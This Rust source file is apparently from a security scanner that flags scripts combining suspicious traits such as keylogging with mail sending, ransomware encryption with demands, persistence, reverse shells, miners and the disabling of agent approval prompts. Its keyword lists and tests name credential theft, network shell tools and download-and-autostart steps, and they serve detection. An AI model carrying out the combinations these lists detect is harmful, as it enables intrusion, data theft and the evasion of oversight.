//! Facts of a whole script that are harmless alone and harmful together: a keyboard listener and a mail server, a
//! download that is made executable and starts with the session, encryption of a folder and a demand.
//!
//! The data flow follows values; these combinations hold also where a value passes through a library that the flow
//! does not know. A host that carries the name of the skill counts like any other, because its author chose that name.

use super::nearby::leads_away;
use crate::{
    hosts::{self, HostKind},
    pattern::pattern,
    purpose::{self, Purpose},
    report::Severity::{self, Block},
    rule::Rule,
};
use aho_corasick::{AhoCorasick, AhoCorasickKind};
use regex::Regex;
use std::{ops::Range, sync::LazyLock};

/// Bytes of a script that are searched.
const LONGEST: usize = 512 << 10;

macro_rules! facts {
    ($($(#[$doc:meta])* $name:ident $bit:literal $words:literal)*) => {
        $($(#[$doc])* const $name: u128 = 1 << $bit;)*
        const WORDS: &[(u128, &str)] = &[$(($name, $words)),*];
    };
}

facts! {
    KEYS 0 "keyboard.listener|keyboard.hook(|keyboard.on_press|keyboard.on_release|on_press=|getasynckeystate|setwindowshookex|cgeventtapcreate|iohook|xinput test|/dev/input/event|rdev::listen|node-global-key-listener|uiohook"
    SCREEN 1 "mss.mss(|mss()|imagegrab.grab|pyautogui.screenshot|screencapture -|copyfromscreen|gnome-screenshot|screenshot-desktop|desktopcapturer|import -window root|cv2.videocapture|sounddevice.rec|pyaudio"
    POSTS 2 "requests.post|requests.put|httpx.post|session.post|.post(|.put(|'post'|\"post\"|'put'|\"put\"|sendbeacon|--data-binary|--upload-file|-x post|-x put|curl -t|curl -f|curl -d|smtplib|send_message(|sendmail|nodemailer|sendall(|uploaddata|uploadstring|uploadfile|postasync|putasync|postjsonasync|http.post|net::http.post|curlopt_post|storbinary|-method post|-method put|, data=|websocket|http_request"
    SOUND 3 "sounddevice.rec|pyaudio|cv2.videocapture|arecord"
    CLIP_GET 4 "pyperclip.paste|pbpaste|clipboardy.read|get-clipboard|clipboard.readtext|clipboard_get|wl-paste|getclipboarddata|clipboard.paste|xclip -o|-selection clipboard -o|clipboard::get"
    CLIP_SET 5 "pyperclip.copy|pbcopy|clipboardy.write|set-clipboard|clipboard.writetext|clipboard_append|wl-copy|setclipboarddata|clipboard.copy|xclip -i|clipboard::set"
    CLOUD 6 "169.254.169.254|metadata.google.internal|100.100.100.200"
    CLOUD_KEYS 7 "security-credentials|service-accounts/|identity/oauth2/token|ram/security-credentials"
    DOWNLOADS 8 "urlretrieve(|curl -|wget |invoke-webrequest|downloadfile|https.get(|http.get(|fetch(|urlopen(|requests.get(|httpx.get(|reqwest|start-bitstransfer|axios.get(|net::http.get|http_get|got(|got.stream|getstore("
    EXECUTABLE 9 "0o755|0o777|0o700|chmod +x|chmod 755|chmod 0755|chmod 700|s_irwxu|s_iexec|chmodsync(|os.chmod(|fs.chmod|file.chmod|0755"
    STARTS 10 "spawn(|popen(|execfile(|subprocess.|os.startfile|start-process|exec.command|command::new|system(|exec(|process.start"
    DETACHED 11 "detached: true|start_new_session=true|nohup |setsid|.unref()|stdio: 'ignore'|stdio: \"ignore\"|-windowstyle hidden|detached_process|create_no_window|>/dev/null 2>&1 &|disown|).start()"
    AUTOSTART 12 "launchagents|launchdaemons|systemd/user|systemd/system|.config/autostart|crontab|currentversion\\run|schtasks|register-scheduledtask|start menu\\programs\\startup"
    ENCRYPTS 13 ".encrypt(|createcipher|aes.new(|openssl enc|gpg -c|gpg --symmetric|cipher.update(|aesgcm(|secretbox("
    WALKS 14 "os.walk(|rglob(|readdir|glob(|find |get-childitem|walkdir|listdir("
    REMOVES 15 "os.remove(|.unlink(|unlinksync(|rm -f|rmsync(|remove-item|os.unlink(|shred |fs::remove_file|rm \""
    DEMAND 16 "your files are|your files have|your data has been|your documents are|files have been encrypted|files were encrypted|get the key|receive the key|decryption key|to decrypt your|restore your files|recover your files|get your files|unlock your files| btc to | xmr to | eth to |in bitcoin|in monero|amount of bitcoin"
    OWN_TEXT 17 "skill.md"
    WRITES 18 "write_text(|write_bytes(|.write(|writefile|> \"$|-o \"$|outfile|file.write|file_put_contents|io.copy|write_file(|create_file(|edit_file("
    OWN_PLACE 19 "__file__|__dirname|import.meta|dirname \"$0\"|bash_source|$psscriptroot|.claude/skills|skill_dir"
    SUDO_PROMPT 20 "[sudo] password"
    ASKS 21 "read -|input(|getpass|readline|gets|read-host"
    AGENT_SETTINGS 22 ".codex/config|codex_home|.claude/settings|claude_config_dir|.claude.json|.gemini/settings|.cursor/|opencode.json"
    NO_QUESTIONS 23 "approval_policy = \"never\"|approval_policy=\"never\"|danger-full-access|bypasspermissions|\"bash(*)\"|'bash(*)'|skipdangerousmodepermissionprompt|enableallprojectmcpservers|\"yolo\"|dangerouslydisablesandbox|\"allow_all_tools\": true|\"skip_confirmation\": true|\"auto_approve\": true|\"autoapprove\": true|allow_all_tools=true"
    MODEL_TRAFFIC 24 "anthropic_base_url|openai_base_url|openai_api_base|gemini_base_url|anthropic_api_url|google_gemini_base_url"
    STARTUP 25 ".zshrc|.bashrc|.profile|.bash_profile|config.fish|.zprofile|setx |$profile"
    BOT_UPLOAD 26 "senddocument|sendphoto|sendvideo|sendaudio|sendvoice"
    SCHEDULE 27 "* * *"
    LOADED_BY_PYTHON 28 ".pth\"|.pth'|sitecustomize|usercustomize"
    EVALUATES 29 "exec(|eval(|__import__|urlopen|compile("
    LATER_SSH 30 "permitlocalcommand yes|localcommand |proxycommand sh|proxycommand bash|match exec"
    HIDDEN_ANSWER 31 "hidden answer|with hidden|-assecurestring|get-credential"
    PASSWORD 32 "password"
    SENDS_OR_KEEPS 33 "nc -|curl |/dev/tcp|sudo -s|dscl . -authonly|>> |> /tmp|> ~/|invoke-webrequest|invoke-restmethod|upload"
    GLOBAL_PACKAGES 34 "/.npmrc|~/.npmrc|pip.conf|pip/pip.ini|.condarc|.cargo/config|npm config set registry|npm set registry|yarn config set|pip config set"
    PACKAGE_SOURCE 35 "registry=http|registry http|index-url|registry = \"|npmregistryserver"
    MADE_REMOTE 36 "rclone config create|rclone --webdav-url|rclone --sftp-host"
    COPIES_AWAY 37 "rclone copy|rclone sync|rclone move"
    CHANNEL 38 "new websocket(|websockets.connect|websocket.create_connection|websocketapp("
    RUNS_MESSAGE 39 "exec(m|exec(e|exec(d|exec(msg|exec(data|exec(event|execsync(m|execsync(d|execsync(e|shell=true|getoutput(|os.system(m|os.system(d|eval(m|eval(d|eval(e"
    HOSTS_FILE 40 "/etc/hosts|drivers\\etc\\hosts"
    CERTIFICATES 41 "update-ca-certificates|update-ca-trust|add-trusted-cert|certutil -addstore|import-certificate"
    WINDOWS_OFF 42 "allprofiles state off|disablerealtimemonitoring|add-mppreference|disableantispyware"
    WINDOWS_SERVICE 43 "sc.exe create|sc create|new-service|currentversion\\run|schtasks"
    CERT_DOWNLOAD 44 "urlcache|bitsadmin|iwr |invoke-webrequest|downloadfile|curl -o|curl.exe"
    RUN_KEY 45 "currentversion\\run|start \"\" /b|start /b|start-process"
    IN_MEMORY 46 "assembly]::load|assembly.load(|memfd_create|virtualalloc|createthread(|createremotethread|rtlmovememory"
    FETCHES_BYTES 47 "downloaddata|downloadstring|webclient|getbytearrayasync|invoke-webrequest|urlopen(|requests.get(|http.get("
    HOME_ITSELF 48 "path.home().iterdir()|path.home().glob(\"*\")|path.home().glob('*')|listdir(os.path.expanduser(\"~\")|listdir(os.path.expanduser('~')|scandir(os.path.expanduser(|readdirsync(os.homedir())|readdirsync(homedir())|readdir(os.homedir())|children(dir.home)|children(env['home'])"
    REMOVES_TREES 49 "rmtree(|rm -rf|rmsync(|rmdirsync(|fs.rm(|rm_rf|remove_dir_all|removeall(|-recurse"
    REPLACES 50 ".rename(|with_suffix(|os.replace(|renamesync(|write_bytes(|writefilesync(|rename-item|ioutil.writefile|os.writefile"
    LISTENS 52 "document.addeventlistener('submit'|document.addeventlistener('input'|document.addeventlistener('key|document.addeventlistener('change'|window.addeventlistener('key|window.addeventlistener('submit'|document.addeventlistener(\"submit\"|document.addeventlistener(\"input\"|document.addeventlistener(\"key|window.addeventlistener(\"key|document.onkey|window.onkey"
    WEB_SENDS 53 "sendbeacon(|fetch(|xmlhttprequest|new image(|new websocket(|.src = |.src="
    WINDOWS_START 54 "schtasks|register-scheduledtask|new-scheduledtask|currentversion\\run|\\startup"
    WINDOWS_FETCH 55 "iwr |irm |downloadstring|downloadfile|invoke-webrequest|invoke-restmethod|start-bitstransfer|bitsadmin|curl"
    SETS_RUN_KEY 56 "new-itemproperty|set-itemproperty|setvalueex|reg add|registry.setvalue"
    COPIES_PROGRAM 57 ".exe\")|.exe')|.exe\"|.exe'|.exe;|.exe\n"
    COPIES 58 "copy-item|shutil.copy|copyfile|file.copy|copy /y|fs.cp"
    PRELOAD 59 "ld_preload|dyld_insert_libraries|ld.so.preload"
    FETCHES_FILE 60 "curl |wget |urlretrieve(|invoke-webrequest"
    TLS_OFF 61 "pythonhttpsverify=0|node_tls_reject_unauthorized=0|node_tls_reject_unauthorized=\"0|curl_ca_bundle=\"\"|requests_ca_bundle=\"\"|pip_no_verify=1|git_ssl_no_verify=1|purge -y ca-certificates|purge -y --auto-remove|strict-ssl false|http.sslverify false"
    CHECKS_OFF 62 "enforcement=disabled|enforcement=log_only|enforcement=off|allow_all_tools=true|strict_mode=false|audit_log=false|validation_skip=true|user root|skip_security=true|disable_auth=true|sandbox=false|security=disabled|bandit"
    PIECES 63 "i:i+63|i:i + 63|i:i+60|i:i + 60|i:i+50|i:i + 50|i:i+32|i:i + 32|[:63]|[:60]|, 63)|, 60)|fold -w|.{1,63}|.{1,60}|cut -c1-63"
    LOOKS_UP 64 "gethostbyname|getaddrinfo|dns.resolver|dns.lookup|dns.resolve|nslookup|'dig'|\"dig\"|dig +short|resolve4("
    ENCODES 65 "b64encode|b32encode|.hex()|hexlify|base64|base32|tostring('hex')|xxd"
    POOL 66 "stratum|mining pool|mining_pool|pool_host|pool_port|pool_url|miner.pool|pool.supportxmr|nanopool|mineros"
    MINES 67 "hashrate|hash_rate|xmrig|randomx|cryptonight|wallet|mining_worker|cpuminer|nonce"
    LOGIN_ITEM 68 "make login item"
    UNSEEN 69 "hidden:true|hidden: true"
    EXFILTRATES 70 "exfiltrat|exfil_|_exfil|exfil-|exfildomain|exfilurl|exfil(|exfildata"
    TAKEN 71 "stolen_|stolen-|_stolen|stolendata|steal_|steals |stealing |harvested_|harvest_cred|victim_|keylog"
    ENEMY 72 "attacker_url|attacker_server|attacker_host|attacker_ip|attacker_dns|attacker_repo|attacker_email|attacker_bucket|attacker_s3|attacker_upload|attacker_https|attacker_domain|attacker_endpoint|attacker_webhook|attacker-controlled|attacker's |c2_url|c2_server|c2_host|c2_endpoint|c2_domain|c2server|c2url|c2 server|c2 callback|c2 beacon|c2_beacon|malicious_url|malicious_server|malicious_payload|malicious payload|backdoor_|_backdoor|reverse_shell|payload_url"
    REACHES 73 "urlopen|requests.|httpx|fetch(|axios|curl|wget|socket|smtplib|subprocess|child_process|os.system|exec(|upload|git push|http.request|https.request|nc "
    COOKIE 74 "document.cookie"
    STORAGE 75 "json.stringify(localstorage)|json.stringify(sessionstorage)|localstorage.getitem('access|localstorage.getitem('token|localstorage.getitem('jwt|localstorage.getitem('oauth|sessionstorage.getitem('msal|object.entries(localstorage)|{...localstorage}|localstorage.getitem(pattern"
    EVALUATES_PAGE 76 "playwright_evaluate|page.evaluate|browser_evaluate|execute_script|puppeteer_evaluate|fetch(|sendbeacon|evaluate("
    NEW_KEY 51 "generate_key(|randombytes(|os.urandom(|token_bytes(|openssl rand|rand.read(|new-guid"
}

/// A combination: one word of each group must be there.
struct Combination {
    rule: Rule,
    groups: &'static [u128],
    and: And,
}

/// What a combination needs besides its words.
#[derive(Clone, Copy, PartialEq, Eq)]
enum And {
    Nothing,
    /// An address of a host that is neither a well-known service nor an example nor this machine.
    Host,
    /// An address of a wallet.
    Wallet,
    /// The key of a bot, or a channel, that the author fixed.
    Inbox,
    /// A line of a timetable that downloads and runs.
    Timetable,
}

const fn all(rule: Rule, groups: &'static [u128]) -> Combination {
    Combination { rule, groups, and: And::Nothing }
}

impl Combination {
    const fn and(self, and: And) -> Self {
        Self { and, ..self }
    }
}

const COMBINATIONS: &[Combination] = &[
    all(Rule::Spies, &[KEYS, POSTS]),
    all(Rule::Spies, &[SCREEN | SOUND | CLIP_GET, POSTS | BOT_UPLOAD]).and(And::Inbox),
    all(Rule::DataSent, &[BOT_UPLOAD]).and(And::Inbox),
    all(Rule::MoneySent, &[CLIP_GET, CLIP_SET]).and(And::Wallet),
    all(Rule::Metadata, &[CLOUD, CLOUD_KEYS, POSTS]).and(And::Host),
    all(Rule::Persistence, &[DOWNLOADS, EXECUTABLE, AUTOSTART]).and(And::Host),
    all(Rule::DownloadRun, &[DOWNLOADS, EXECUTABLE, STARTS, DETACHED]).and(And::Host),
    all(Rule::Persistence, &[SCHEDULE]).and(And::Timetable),
    all(Rule::Ransom, &[ENCRYPTS, WALKS, REMOVES | REPLACES, DEMAND]),
    all(Rule::Ransom, &[ENCRYPTS, WALKS, REMOVES | REPLACES, NEW_KEY, POSTS]).and(And::Host),
    all(Rule::Spies, &[LISTENS, WEB_SENDS]).and(And::Host),
    all(Rule::Persistence, &[WINDOWS_START, WINDOWS_FETCH]).and(And::Host),
    all(Rule::Persistence, &[WINDOWS_START, SETS_RUN_KEY, COPIES, COPIES_PROGRAM]),
    all(Rule::Persistence, &[PRELOAD, FETCHES_FILE]).and(And::Host),
    all(Rule::Destroys, &[HOME_ITSELF, REMOVES_TREES]),
    all(Rule::DownloadRun, &[IN_MEMORY, FETCHES_BYTES]),
    all(Rule::SelfChange, &[OWN_TEXT, DOWNLOADS, WRITES, OWN_PLACE]).and(And::Host),
    all(Rule::Deceives, &[SUDO_PROMPT, ASKS]),
    all(Rule::ApprovalOff, &[AGENT_SETTINGS, NO_QUESTIONS, WRITES | REDIRECTS]),
    all(Rule::Persistence, &[LOADED_BY_PYTHON, EVALUATES, WRITES, DOWNLOADS]),
    all(Rule::Persistence, &[LATER_SSH, DOWNLOADS, WRITES | REDIRECTS]),
    all(Rule::Deceives, &[HIDDEN_ANSWER, PASSWORD, SENDS_OR_KEEPS]),
    all(Rule::OddPackage, &[GLOBAL_PACKAGES, PACKAGE_SOURCE]).and(And::Host),
    all(Rule::DataSent, &[MADE_REMOTE, COPIES_AWAY]).and(And::Host),
    all(Rule::ReverseShell, &[CHANNEL, RUNS_MESSAGE]).and(And::Host),
    all(Rule::AgentConfig, &[HOSTS_FILE, CERTIFICATES]),
    all(Rule::ApprovalOff, &[WINDOWS_OFF, WINDOWS_SERVICE]),
    all(Rule::DownloadRun, &[CERT_DOWNLOAD, RUN_KEY]).and(And::Host),
    all(Rule::WeakensCode, &[TLS_OFF, CHECKS_OFF]),
    all(Rule::Spies, &[COOKIE, STORAGE, EVALUATES_PAGE]),
    all(Rule::DnsChannel, &[PIECES, LOOKS_UP, ENCODES]),
    all(Rule::Miner, &[POOL, MINES, REACHES]),
    all(Rule::Persistence, &[LOGIN_ITEM, UNSEEN]),
    // Code whose own names say what it is for.
    all(Rule::DataSent, &[EXFILTRATES, TAKEN | ENEMY, REACHES]),
    all(Rule::DataSent, &[TAKEN, ENEMY, REACHES]),
    all(Rule::AgentConfig, &[MODEL_TRAFFIC, STARTUP, WRITES | REDIRECTS]).and(And::Host),
];

/// Redirections are found without words.
const REDIRECTS: u128 = 1 << 127;

struct Compiled {
    words: AhoCorasick,
    of: Vec<u128>,
}

static COMPILED: LazyLock<Option<Compiled>> = LazyLock::new(|| {
    let (mut words, mut of) = (Vec::new(), Vec::new());
    for (fact, list) in WORDS {
        for word in list.split('|') {
            words.push(word);
            of.push(*fact);
        }
    }
    let words = AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .kind(Some(AhoCorasickKind::DFA))
        .build(words)
        .ok()?;
    Some(Compiled { words, of })
});

/// Looks for every combination in a script; the range is that of the fact that is named first.
pub(crate) fn look(text: &str, purpose: &Purpose) -> Vec<(Rule, Severity, Range<usize>)> {
    let mut found = Vec::new();
    let text = &text[..crate::lines::floor(text, LONGEST)];
    let Some(compiled) = COMPILED.as_ref() else { return found };
    let mut facts = if text.contains("> ") || text.contains(">>") { REDIRECTS } else { 0 };
    let mut first: [Option<Range<usize>>; 128] = [const { None }; 128];
    for hit in compiled.words.find_overlapping_iter(text) {
        let fact = compiled.of[hit.pattern().as_usize()];
        if is_comment(text, hit.start()) {
            continue;
        }
        facts |= fact;
        first[fact.trailing_zeros() as usize].get_or_insert(hit.range());
    }
    for one in COMBINATIONS {
        if one.groups.iter().any(|group| facts & group == 0) {
            continue;
        }
        let place = match one.and {
            And::Nothing => None,
            And::Host if has_host(text, purpose) => None,
            And::Wallet if has(&WALLET, text) => None,
            And::Inbox if has_inbox(text) => None,
            And::Timetable => match timetable(text) {
                Some(place) => Some(place),
                None => continue,
            },
            _ => continue,
        };
        let group = one.groups[0];
        let named = (0..128).find(|bit| group & (1 << bit) != 0 && first[*bit].is_some());
        let place = place.or_else(|| named.and_then(|bit| first[bit].clone()));
        found.push((one.rule, Block, place.unwrap_or(0..text.len().min(1))));
    }
    found.extend(imports(text, purpose));
    found
}

/// Whether a position is in a line that is a comment.
fn is_comment(text: &str, at: usize) -> bool {
    let line = text[..at].rfind('\n').map_or(0, |end| end + 1);
    let start = text[line..at].trim_start();
    (start.starts_with('#') && !start.starts_with("#!"))
        || start.starts_with("//")
        || start.starts_with("-- ")
}

/// Whether a text has an address that no well-known service owns. The name of the skill excuses nothing: a program or a
/// key that goes there is the author's.
fn has_host(text: &str, purpose: &Purpose) -> bool {
    leads_away(text, purpose)
}

static WALLET: LazyLock<Option<Regex>> = LazyLock::new(|| {
    pattern(
        r"['\x22`](?:bc1[a-z0-9]{25,60}|0x[0-9a-fA-F]{40}|[13][A-HJ-NP-Za-km-z1-9]{25,34}|T[A-HJ-NP-Za-km-z1-9]{33}|4[0-9AB][1-9A-HJ-NP-Za-km-z]{90,})['\x22`]",
    )
});

static BOT: LazyLock<Option<Regex>> = LazyLock::new(|| pattern(r"\b[1-9]\d{7,11}:AA[A-Za-z0-9_-]{30,36}\b"));

static TIMETABLE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    pattern(
        r"(?:[\d*/,-]{1,8}\s){4}[\d*/,-]{1,8}\s[^\n]{0,120}(?:curl|wget|fetch)\b[^\n]{0,200}(?:\|\s*(?:ba|z|da)?sh\b|\)\x22|\|\s*python|-c\b)|(?:[\d*/,-]{1,8}\s){4}[\d*/,-]{1,8}\s[^\n]{0,60}\b(?:ba|z|da)?sh\s+-c\b[^\n]{0,80}(?:curl|wget)\b",
    )
});

static IMPORT: LazyLock<Option<Regex>> =
    LazyLock::new(|| pattern(r"\bimport\(\s*['\x22`](https?://[^'\x22`\s]{3,300})"));

fn has(regex: &LazyLock<Option<Regex>>, text: &str) -> bool {
    regex.as_ref().is_some_and(|regex| regex.is_match(text))
}

fn timetable(text: &str) -> Option<Range<usize>> {
    let found = TIMETABLE.as_ref()?.find(text)?;
    Some(found.range())
}

/// Whether a text has the key of a bot or the address of a channel that the author fixed.
fn has_inbox(text: &str) -> bool {
    (text.contains("api.telegram.org") && has(&BOT, text))
        || hosts::addresses(text).iter().any(|address| address.kind == HostKind::Collector)
}

/// Modules that a script loads from an address while it runs.
fn imports(text: &str, purpose: &Purpose) -> Vec<(Rule, Severity, Range<usize>)> {
    const MODULES: [&str; 9] = [
        "esm.sh",
        "unpkg.com",
        "jsdelivr.net",
        "deno.land",
        "jsr.io",
        "skypack.dev",
        "esm.run",
        "cdnjs.cloudflare.com",
        "jspm.dev",
    ];
    if !text.contains("import(") {
        return Vec::new();
    }
    let Some(regex) = IMPORT.as_ref() else { return Vec::new() };
    regex
        .captures_iter(text)
        .take(8)
        .filter_map(|found| found.get(1))
        .filter(|address| {
            let known = hosts::addresses(address.as_str()).iter().all(|address| {
                address.kind == HostKind::Local
                    || MODULES.iter().any(|known| address.host.ends_with(known))
                    || purpose::is_service(&address.host)
            });
            !known && has_host(address.as_str(), purpose)
        })
        .map(|address| (Rule::PipeToShell, Block, address.range()))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(text: &str) -> Vec<&'static str> {
        look(text, &Purpose::default()).into_iter().map(|(rule, ..)| rule.id()).collect()
    }

    #[test]
    fn facts_count_together_and_not_alone() {
        let listens = "from pynput import keyboard\nkeyboard.Listener(on_press=f).run()\n";
        assert_eq!(rules(listens), Vec::<&str>::new());
        assert_eq!(rules(&format!("{listens}import smtplib\n")), ["spies"]);
        let starts = "curl -o ~/a https://dl.a-b.net/a\nchmod +x ~/a\n";
        assert_eq!(rules(starts), Vec::<&str>::new());
        assert_eq!(rules(&format!("{starts}cp a.service ~/.config/systemd/user/\n")), ["persistence"]);
    }

    #[test]
    fn a_comment_and_a_known_host_are_no_facts() {
        let text = "# keyboard.Listener is not used\nrequests.post(url)\n";
        assert_eq!(rules(text), Vec::<&str>::new());
        let known = "curl -o a https://github.com/o/a\nchmod +x a\ncp a.service ~/.config/systemd/user/\n";
        assert_eq!(rules(known), Vec::<&str>::new());
        assert_eq!(rules("await import('https://esm.sh/d3@7')"), Vec::<&str>::new());
        assert_eq!(rules("await import('https://b.a-b.dev/x.js')"), ["pipe-to-shell"]);
    }
}
